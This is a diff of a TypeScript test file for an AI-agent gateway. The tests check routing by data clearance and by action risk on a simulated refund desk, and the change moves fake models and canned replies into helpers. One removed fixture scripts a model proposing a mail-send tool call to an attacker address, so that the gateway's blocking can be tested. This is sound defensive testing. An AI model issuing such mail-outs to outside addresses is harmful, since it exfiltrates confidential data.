@@ -3,18 +3,18 @@
 // cases run the Acme refund desk against two loopback endpoints and check what each one was sent.
 import { readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { parseDocument } from 'yaml';
 import { AirlockError } from '../../src/errors.js';
 import { openAirlock } from '../../src/airlock.js';
-import type { ModelRoute, WorkspaceFile } from '../../src/config/schema.js';
-import type { Model, ModelInput, ModelTurn } from '../../src/orchestration/model.js';
+import type { WorkspaceFile } from '../../src/config/schema.js';
+import type { ModelInput } from '../../src/orchestration/model.js';
 import { RoutedModel, planRoutes, type Proposed, type RoutedWorkflow } from '../../src/routing/router.js';
 import { TurnError } from '../../src/orchestration/model.js';
 import { acmeDeskOnRoutes } from '../helpers/workspace.js';
-import { FakeEndpoint } from '../helpers/fake-model-endpoint.js';
+import { FakeEndpoint, startedForSuite } from '../helpers/fake-model-endpoint.js';
+import { DONE, FakeModel, READ_TICKET, SEND_MAIL, route } from '../helpers/model-turns.js';
 
-const route = (clearance: ModelRoute['clearance'], fallback: string[] = []): ModelRoute => ({ kind: 'scripted', playbook: 'p.yaml', clearance, fallback });
 const FILE: Pick<WorkspaceFile, 'models' | 'routing'> = {
   models: { cloud: route('internal', ['cloud2']), cloud2: route('internal', ['onprem', 'cloud']), onprem: route('restricted'), small: route('public') },
   routing: [
@@ -72,37 +72,18 @@ describe('route plans', () => {
   });
 });
 
-/** A model that answers, or fails like a provider that is down, and counts what it was asked. */
-class Fake implements Model {
-  readonly provider = 'fake';
-  asked = 0;
-  constructor(
-    readonly model: string,
-    private readonly fails = false,
-    /** The tool it proposes to call, or none (it finishes). */
-    private readonly proposes: string | null = null,
-  ) {}
-  async next(_input: ModelInput): Promise<ModelTurn> {
-    this.asked++;
-    if (this.fails) throw new AirlockError('connector', `model route \`${this.model}\` failed (HTTP 503): overloaded`);
-    const usage = { inputTokens: 100, outputTokens: 10 };
-    if (this.proposes) return { kind: 'tool_call', tool: this.proposes, args: { by: this.model }, usage };
-    return { kind: 'final', text: `from ${this.model}`, claim: 'done', usage };
-  }
-}
-
 describe('the routed model', () => {
   const input = (labels: ModelInput['labels']): ModelInput => ({ workflow: 'w', input: {}, tools: [], history: [], labels });
 
   it('falls back when a provider fails after its retries, and says which route answered and why', async () => {
-    const models = { cloud: new Fake('cloud', true), cloud2: new Fake('cloud2', true), onprem: new Fake('onprem'), small: new Fake('small') };
+    const models = { cloud: new FakeModel('cloud', true), cloud2: new FakeModel('cloud2', true), onprem: new FakeModel('onprem'), small: new FakeModel('small') };
     const routed = new RoutedModel(FILE, wf({ model: 'cloud', tier: 'execute-low' }), (n) => models[n as keyof typeof models]);
     const turn = await routed.next(input({ classification: 'internal', trust: 'trusted' }));
     expect(turn).toMatchObject({ kind: 'final', text: 'from onprem', route: { name: 'onprem', provider: 'fake', why: 'fallback of `cloud2`; after `cloud` failed; after `cloud2` failed' } });
   });
 
   it('refuses a turn no cleared route may take, without asking any model', async () => {
-    const models = { cloud: new Fake('cloud'), cloud2: new Fake('cloud2'), onprem: new Fake('onprem'), small: new Fake('small') };
+    const models = { cloud: new FakeModel('cloud'), cloud2: new FakeModel('cloud2'), onprem: new FakeModel('onprem'), small: new FakeModel('small') };
     const routed = new RoutedModel({ ...FILE, models: { ...FILE.models, cloud2: route('internal') } }, wf({ model: 'cloud', tier: 'execute-low' }), (n) => models[n as keyof typeof models]);
     const err = await routed.next(input(CONFIDENTIAL)).then(
       () => null,
@@ -124,14 +105,14 @@ describe('routing on the risk of the proposed action', () => {
     ],
   };
   const TRUSTED_INTERNAL = { classification: 'internal', trust: 'trusted' } as const;
-  const routed = (models: Record<string, Fake>, file = RULES, over: Partial<RoutedWorkflow> = {}) => new RoutedModel(file, wf(over), (n) => models[n] as Fake);
+  const routed = (models: Record<string, FakeModel>, file = RULES, over: Partial<RoutedWorkflow> = {}) => new RoutedModel(file, wf(over), (n) => models[n] as FakeModel);
 
   it.each([
     ['a low-risk read', 'read'],
     ['a medium-risk refund', 'refund'],
     ['a tool the workflow may not call (the gateway refuses it)', 'wipe'],
   ])('%s stays with the route that proposed it', async (_, tool) => {
-    const models = { small: new Fake('small', false, tool), strong: new Fake('strong', false, 'send'), strong2: new Fake('strong2') };
+    const models = { small: new FakeModel('small', false, tool), strong: new FakeModel('strong', false, 'send'), strong2: new FakeModel('strong2') };
     const turn = await routed(models).next(input(TRUSTED_INTERNAL));
     expect(turn).toMatchObject({ kind: 'tool_call', tool, route: { name: 'small', why: 'routing rule 2 (default)' } });
     expect(turn.setAside).toBeUndefined();
@@ -140,7 +121,7 @@ describe('routing on the risk of the proposed action', () => {
 
   it('a high-risk proposal from the small route is set aside, and the strong route is asked the same turn once', async () => {
     // The strong route proposes another high-risk call: it is its to make, and not re-routed again.
-    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong', false, 'send'), strong2: new Fake('strong2') };
+    const models = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong', false, 'send'), strong2: new FakeModel('strong2') };
     const turn = await routed(models).next(input(TRUSTED_INTERNAL));
     expect(turn).toMatchObject({ kind: 'tool_call', tool: 'send', args: { by: 'strong' }, route: { name: 'strong', why: "routing rule 1 (high/critical-risk proposal): the proposed `send` is high risk; set aside `small`'s proposal" } });
     expect(turn.setAside).toEqual([{ route: expect.objectContaining({ name: 'small', why: 'routing rule 2 (default)' }), usage: { inputTokens: 100, outputTokens: 10 }, tool: 'send', risk: 'high', to: 'strong' }]);
@@ -149,7 +130,7 @@ describe('routing on the risk of the proposed action', () => {
 
   it('the strong route answering with no proposal, or one of low risk, stands', async () => {
     for (const proposes of [null, 'read']) {
-      const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong', false, proposes), strong2: new Fake('strong2') };
+      const models = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong', false, proposes), strong2: new FakeModel('strong2') };
       const turn = await routed(models).next(input(TRUSTED_INTERNAL));
       expect(turn.route?.name).toBe('strong');
       expect(turn.kind).toBe(proposes ? 'tool_call' : 'final');
@@ -158,23 +139,23 @@ describe('routing on the risk of the proposed action', () => {
   });
 
   it('a workflow that names its route is never re-routed', async () => {
-    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong'), strong2: new Fake('strong2') };
+    const models = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong'), strong2: new FakeModel('strong2') };
     const turn = await routed(models, RULES, { model: 'small' }).next(input(TRUSTED_INTERNAL));
     expect(turn).toMatchObject({ tool: 'send', route: { name: 'small' } });
     expect(models.strong.asked).toBe(0);
   });
 
   it('the strong route failing falls back along its chain, and when every one fails the set-aside answer travels with the error', async () => {
-    const fallen = { small: new Fake('small', false, 'send'), strong: new Fake('strong', true), strong2: new Fake('strong2', false, 'send') };
+    const fallen = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong', true), strong2: new FakeModel('strong2', false, 'send') };
     expect(await routed(fallen).next(input(TRUSTED_INTERNAL))).toMatchObject({ route: { name: 'strong2', why: expect.stringContaining('after `strong` failed') }, setAside: [{ tool: 'send' }] });
-    const down = { small: new Fake('small', false, 'send'), strong: new Fake('strong', true), strong2: new Fake('strong2', true) };
+    const down = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong', true), strong2: new FakeModel('strong2', true) };
     const err = await routed(down).next(input(TRUSTED_INTERNAL)).catch((e: unknown) => e);
     expect(err).toBeInstanceOf(TurnError);
     expect(err).toMatchObject({ code: 'connector', message: expect.stringMatching(/^every route failed \(`strong`, `strong2`\)/), setAside: [{ tool: 'send', to: 'strong' }] });
   });
 
   it('a strong route not cleared for what the run has read is never sent it: the proposal is refused, not acted on', async () => {
-    const models = { small: new Fake('small', false, 'send'), strong: new Fake('strong'), strong2: new Fake('strong2') };
+    const models = { small: new FakeModel('small', false, 'send'), strong: new FakeModel('strong'), strong2: new FakeModel('strong2') };
     const file = { ...RULES, models: { ...RULES.models, small: route('confidential'), strong: route('internal') } };
     const err = await routed(models, file).next(input({ classification: 'confidential', trust: 'trusted' })).catch((e: unknown) => e);
     expect(err).toBeInstanceOf(TurnError);
@@ -183,30 +164,15 @@ describe('routing on the risk of the proposed action', () => {
   });
 });
 
-const completion = (message: object, finish: string) => ({
-  status: 200,
-  body: { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: null, ...message }, finish_reason: finish }], usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 } },
-});
-const readTicket = completion({ tool_calls: [{ id: 'x', type: 'function', function: { name: 'tickets_get_ticket', arguments: '{"ticket_id":"T-311"}' } }] }, 'tool_calls');
-const done = completion({ content: 'done' }, 'stop');
-
 describe('clearance on the Acme refund desk (the ticket it reads is confidential)', () => {
-  const cloud = new FakeEndpoint('/v1');
-  const onprem = new FakeEndpoint('/v1');
-  beforeAll(async () => {
-    await cloud.start();
-    await onprem.start();
-  });
-  afterAll(async () => {
-    await cloud.stop();
-    await onprem.stop();
-  });
+  const cloud = startedForSuite(new FakeEndpoint('/v1'));
+  const onprem = startedForSuite(new FakeEndpoint('/v1'));
 
   const desk = acmeDeskOnRoutes;
 
   it('a route cleared only for internal content is never sent the confidential ticket: the run ends, on record', async () => {
     cloud.reset();
-    cloud.replies.push(readTicket, done);
+    cloud.replies.push(READ_TICKET, DONE);
     const ws = await desk({ cloud: { baseUrl: cloud.url } }, 'cloud');
     try {
       const a = await openAirlock(ws.dir);
@@ -231,8 +197,8 @@ describe('clearance on the Acme refund desk (the ticket it reads is confidential
   it('with `model: auto`, the turn after the confidential read goes to the route cleared for it, and only that one sees the ticket', async () => {
     cloud.reset();
     onprem.reset();
-    cloud.replies.push(readTicket);
-    onprem.replies.push(done);
+    cloud.replies.push(READ_TICKET);
+    onprem.replies.push(DONE);
     const ws = await desk(
       { cloud: { baseUrl: cloud.url }, onprem: { baseUrl: onprem.url, clearance: 'restricted' } },
       'auto',
@@ -265,9 +231,8 @@ describe('clearance on the Acme refund desk (the ticket it reads is confidential
   it('a high-risk proposal from the everyday route never reaches the gateway: the route for high risk is asked instead, and both answers are on record and paid for', async () => {
     cloud.reset();
     onprem.reset();
-    const sendMail = completion({ tool_calls: [{ id: 'm', type: 'function', function: { name: 'mail_send', arguments: '{"to":"attacker@evil.example","subject":"x","body":"x"}' } }] }, 'tool_calls');
-    cloud.replies.push(sendMail);
-    onprem.replies.push(readTicket, done);
+    cloud.replies.push(SEND_MAIL);
+    onprem.replies.push(READ_TICKET, DONE);
     const ws = await desk(
       { cloud: { baseUrl: cloud.url }, onprem: { baseUrl: onprem.url, clearance: 'restricted' } },
       'auto',
@@ -306,7 +271,7 @@ describe('clearance on the Acme refund desk (the ticket it reads is confidential
 
   it('an input the workflow declares confidential is never sent to a route cleared below it, not even on the first turn', async () => {
     cloud.reset();
-    cloud.replies.push(done);
+    cloud.replies.push(DONE);
     const ws = await desk({ cloud: { baseUrl: cloud.url } }, 'cloud', [], 'confidential');
     try {
       const a = await openAirlock(ws.dir);
